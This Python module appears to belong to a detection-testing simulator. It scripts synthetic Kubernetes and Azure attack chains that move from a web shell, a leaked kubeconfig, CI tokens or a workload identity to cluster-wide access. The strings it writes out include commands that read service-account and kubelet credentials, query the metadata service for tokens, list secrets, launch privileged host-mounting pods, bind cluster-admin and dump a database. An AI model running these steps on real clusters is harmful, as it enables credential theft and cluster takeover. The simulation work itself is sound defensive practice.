"""Whole stories that begin in one source and end in another: from a web server, a laptop or a token to everything."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

from simulation.attacks.identities import ABNORMAL, CLUSTERS, STORAGE_KEYS, act, arm_of
from simulation.attacks.intruders import seen_inside
from simulation.attacks.register import STORY, careful, straight
from simulation.attacks.scene import ACCOUNT_FOLDER, Scene, brought
from simulation.attacks.shells import Shell
from simulation.azure.identities import kubelet, workload
from simulation.clock import HOUR, MINUTE, SECOND
from simulation.json import Json
from simulation.kubernetes.objects import binding, body, daemon_set
from simulation.kubernetes.pod_specs import container, host_path, pod_spec
from simulation.kubernetes.requests import Client, Target
from simulation.kubernetes.workloads import Workload
from simulation.schedule import Life

if TYPE_CHECKING:
    from simulation.kubernetes.pods import Pod

WEB_SHELL = "K8S.NODE_Webshell"
RECONNAISSANCE = "K8S.NODE_ReconnaissanceArtifactsBurst"
API_CALL = "K8S.NODE_KubernetesAPI"
METADATA = "K8S.NODE_ImdsCall"
NODE_CREDENTIAL = "K8S.NODE_KubeConfigAccess"
PRIVILEGED_SHELL = "K8S.NODE_PrivilegedExecutionInContainer"
RARE = "K8S_ServiceAccountRareOperation"
PRIVILEGED = "K8S_PrivilegedContainer"
MOUNT = "K8S_SensitiveMount"
ADMIN = "K8S_ClusterAdminBinding"
SYSTEM_POD = "K8S_KubeSystemContainer"
CURL = "curl/8.5.0"
SERVER = "https://kubernetes.default.svc"
BEARER = "Authorization: Bearer eyJhbGciOiJub25lIn0.invented.x"
LOOKS = ("id", "uname -a", "hostname", "ps aux", "env", "ip addr", "cat /etc/os-release", "ls -la /", "mount")


def asks_own_rights(scene: Scene, client: Client, namespace: str, *raises: str) -> None:
    """`kubectl auth can-i --list`."""
    sent: Json = {"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1", "metadata": {}}
    sent |= {"spec": {"namespace": namespace}, "status": {"incomplete": False}}
    target = Target("SelfSubjectRulesReview")
    scene.api.record(client, "create", target, code=201, request=sent, response=sent, mark=scene.mark(*raises))


def mints(scene: Scene, client: Client, namespace: str, account: str, *raises: str) -> Client:
    """Somebody gets a token for an account, and uses it from the intruder's network from then on."""
    target = Target("ServiceAccount", namespace, account, "token")
    scene.api.record(client, "create", target, code=201, mark=scene.mark(*raises))
    granted = f'ClusterRoleBinding "{account}" of ClusterRole "{account}"'
    token = scene.chance.uuid()
    return scene.cluster.identities.account(
        namespace, account, brought(scene.address), scene.address, granted, token=token
    )


def looks_around(scene: Scene, shell: Shell, *raises: str) -> Life:
    """Seven commands that tell where one is, within some minutes."""
    for command in scene.chance.picks(LOOKS, 7):
        shell.line(command, *raises)
        yield scene.pause(3, 20)


def removes(scene: Scene, workload: Workload, client: Client) -> Life:
    """Somebody deletes a workload that the story made, and its pods end."""
    held = scene.api.held(workload.kind, workload.namespace, workload.name) or workload.object
    if workload.kind == "Pod":
        while workload.pods:
            workload.remove_pod()
        yield 5 * SECOND
        scene.api.forget(held)
        return
    scene.api.delete(client, held, {"propagationPolicy": "Background"}, mark=scene.mark())
    yield 200_000
    if workload.parent is not None:
        scene.api.forget(workload.parent)
    while workload.pods:
        workload.remove_pod()


@straight(WEB_SHELL, RECONNAISSANCE, API_CALL, METADATA, RARE, ABNORMAL, kind=STORY,
          sources=("audit", "runtime", "arm"))  # fmt: skip
def web_shell_to_storage_keys(scene: Scene) -> Life:
    """From a web shell by a pod's token to secrets, then by the metadata service to a storage account's keys."""
    victim = scene.victim("storefront", "nginx")
    shell = scene.web_shell(victim)
    yield from looks_around(scene, shell, WEB_SHELL, RECONNAISSANCE)
    yield scene.chance.about(2 * HOUR, 0.4)
    # Pods may have been replaced meanwhile; the hole in the application is still there.
    shell = scene.web_shell(victim)
    pod = _pod_of(shell, victim)
    shell.line(f"cat {ACCOUNT_FOLDER}/token", API_CALL)
    yield scene.pause(20, 90)
    yield from _asks_for_secrets(scene, shell, victim, pod)
    yield scene.pause(60, 600)
    url = "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"
    shell.line(f"curl -s -H Metadata:true '{url}'", METADATA, WEB_SHELL)
    yield scene.chance.about(50 * MINUTE, 0.5)
    arm = arm_of(scene)
    act(scene, kubelet(arm), STORAGE_KEYS, arm.estate.storage, away=True)
    yield scene.pause(30, 200)
    act(scene, kubelet(arm), STORAGE_KEYS, f"{arm.estate.storage}logs", away=True)


def _pod_of(shell: Shell, workload: Workload) -> Pod:
    """The pod that a shell which was just opened is in."""
    container = shell.program.container
    assert container is not None
    return next(pod for pod in workload.pods if pod.name == container.pod)


def _token_of(scene: Scene, victim: Workload, pod: Pod, agent: str, address: str) -> Client:
    """The token of this pod, which somebody uses from an address."""
    names = (victim.namespace, victim.account, agent, address)
    granted = f'RoleBinding "{victim.account}/{victim.namespace}" of ClusterRole "edit"'
    return scene.cluster.identities.account(*names, granted, pod.bound, pod.token)


def _asks_for_secrets(scene: Scene, shell: Shell, victim: Workload, pod: Pod) -> Life:
    """Curl from the pod: what the sensor sees of it, and what the API server; then the token leaves."""
    thief = _token_of(scene, victim, pod, CURL, pod.address)
    for verb, kind in (("list", "Pod"), ("list", "Secret")):
        resource = f"namespaces/{victim.namespace}/{kind.lower()}s"
        shell.line(f'curl -sk -H "{BEARER}" {SERVER}/api/v1/{resource}', API_CALL, WEB_SHELL)
        scene.read(thief, verb, Target(kind, victim.namespace), RARE)
        yield scene.pause()
    secrets = Target("Secret", victim.namespace, f"{victim.name}-credentials")
    command = f'curl -sk -H "{BEARER}" {SERVER}/api/v1/namespaces/{victim.namespace}/secrets/{secrets.name}'
    shell.line(command, API_CALL, WEB_SHELL)
    scene.read(thief, "get", secrets, RARE)
    yield scene.pause(30, 300)
    asks_own_rights(scene, _token_of(scene, victim, pod, brought(scene.address), scene.address), victim.namespace, RARE)


@straight(PRIVILEGED, MOUNT, PRIVILEGED_SHELL, NODE_CREDENTIAL, RARE, kind=STORY, sources=("audit", "runtime"))
def leaked_kubeconfig(scene: Scene) -> Life:
    """A person's kubeconfig is used from outside: a privileged pod, the node under it, the kubelet's credentials."""
    person = next(each for each in scene.cluster.people if each.team)
    thief = replace(person.client, address=scene.address, agent=brought(scene.address))
    asks_own_rights(scene, thief, person.team)
    for kind in ("Pod", "Secret", "ConfigMap"):
        yield scene.pause()
        scene.read(thief, "list", Target(kind, person.team, query="limit=500"))
    yield scene.pause(60, 400)
    item = container("shell", "docker.io/library/alpine:3.20", command=["sleep", "86400"], mounts={"/host": "root"},
                     privileged=True)  # fmt: skip
    spec = pod_spec(item, volumes=[host_path("root", "/")])
    made = scene.deploy(thief, body("Pod", f"netcheck-{scene.chance.ending(4)}", person.team, spec=spec, status={}),
                        PRIVILEGED, MOUNT)  # fmt: skip
    yield scene.pause(20, 60)
    node = made.pods[0].machine.name
    yield from _reads_node(scene, thief, made)
    yield scene.chance.about(90 * MINUTE, 0.4)
    yield from _is_node(scene, node)
    yield scene.chance.about(3 * HOUR, 0.3)
    yield from removes(scene, made, thief)


def _reads_node(scene: Scene, thief: Client, made: Workload) -> Life:
    shell = scene.exec_shell(thief, made, seconds=900)
    for command, *raises in (
        ("ls /host/var/lib/kubelet",),
        ("cat /host/var/lib/kubelet/kubeconfig", NODE_CREDENTIAL),
        ("base64 /host/var/lib/kubelet/pki/kubelet-client-current.pem", NODE_CREDENTIAL),
    ):
        yield scene.pause(5, 60)
        shell.run(command, PRIVILEGED_SHELL, *raises)


def _is_node(scene: Scene, node: str) -> Life:
    """As a node one may ask for tokens of the accounts whose pods it runs; one of them may read secrets."""
    groups = ("system:nodes", "system:authenticated")
    kubelet_client = Client(f"system:node:{node}", groups, brought(scene.address), scene.address)
    scene.read(kubelet_client, "list", Target("Pod", query=f"fieldSelector=spec.nodeName%3D{node}"))
    yield scene.pause(30, 120)
    scene.refuse(kubelet_client, "list", Target("Secret", query="limit=500"))
    yield scene.pause(30, 120)
    token = mints(scene, kubelet_client, "cert-manager", "cert-manager-cainjector")
    yield scene.pause(30, 120)
    scene.read(token, "list", Target("Secret", query="limit=500"), RARE)


@careful(RARE, kind=STORY, sources=("audit",))
def moves_by_tokens(scene: Scene) -> Life:
    """From CI's account to the GitOps controller's by a minted token, and from there into a database."""
    runner = scene.cluster.workload("ci", "gitlab-runner")
    agent = brought(scene.address)
    thief = scene.stolen(runner, agent, granted='ClusterRoleBinding "ci-tokens" of ClusterRole "token-requester"')
    asks_own_rights(scene, thief, "ci", RARE)
    yield scene.pause(20, 200)
    scene.read(thief, "list", Target("ServiceAccount", "argocd"), RARE)
    yield scene.chance.about(HOUR, 0.5)
    token = mints(scene, thief, "argocd", "argocd-application-controller", RARE)
    yield scene.pause(20, 200)
    team = scene.chance.pick(scene.cluster.teams)
    scene.read(token, "list", Target("Secret", query="limit=500"), RARE)
    yield scene.chance.about(8 * HOUR, 0.3)
    spec = pod_spec(container("load", "docker.io/library/postgres:17.2", command=["sleep", "3600"]), restart="Never")
    held = body("Pod", f"db-load-{scene.chance.ending(5)}", team, spec=spec, status={})
    made = scene.deploy(token, held, RARE)
    yield scene.pause(20, 60)
    query = "command=pg_dump&command=-h&command=db&container=load&stdout=true"
    target = Target("Pod", team, made.name, "exec", query)
    scene.api.stream(token, "get", target, 240, mark=scene.mark(RARE))
    seen_inside(scene, made.latest(), ("pg_dump", "-h", "db"), 240)
    yield scene.chance.about(10 * MINUTE)
    yield from removes(scene, made, token)


@straight(ABNORMAL, ADMIN, PRIVILEGED, MOUNT, SYSTEM_POD, kind=STORY, sources=("audit", "arm"))
def identity_to_cluster_admin(scene: Scene) -> Life:
    """A workload's identity fetches the administrator's credential, which then puts a pod on every node."""
    arm = arm_of(scene)
    thief = workload(arm, "deployer")
    if arm.managed:
        act(scene, thief, f"{CLUSTERS}/listClusterAdminCredential/action", arm.cluster_id, away=True)
        name, group = "masterclient", "system:masters"
    else:
        machine = arm.estate.node_resource("Microsoft.Compute/virtualMachines", "control-plane-0")
        act(scene, thief, "Microsoft.Compute/virtualMachines/runCommand/action", machine, away=True)
        name, group = "kubernetes-admin", "kubeadm:cluster-admins"
    yield scene.chance.about(3 * HOUR, 0.5)
    administrator = scene.cluster.identities.person(name, (group,), "", scene.address, brought(scene.address))
    scene.read(administrator, "list", Target("Node", query="limit=500"))
    yield scene.pause()
    subject = {"kind": "ServiceAccount", "name": "metrics-agent", "namespace": "kube-system"}
    bound = binding("ClusterRoleBinding", "", "system:metrics-agent", subject, "ClusterRole", "cluster-admin")
    held = scene.create(administrator, bound, ADMIN)
    yield scene.pause(30, 300)
    item = container("agent", "docker.io/library/alpine:3.20", command=["sleep", "infinity"], privileged=True,
                     mounts={"/host": "root"})  # fmt: skip
    spec = pod_spec(item, volumes=[host_path("root", "/")])
    manifest = daemon_set("kube-system", "metrics-agent", {"k8s-app": "metrics-agent"}, spec)
    made = scene.deploy(administrator, manifest, PRIVILEGED, MOUNT, SYSTEM_POD)
    yield scene.chance.about(9 * HOUR, 0.3)
    responder = scene.person(admin=True)
    yield from removes(scene, made, responder)
    scene.api.delete(responder, held, mark=scene.mark())
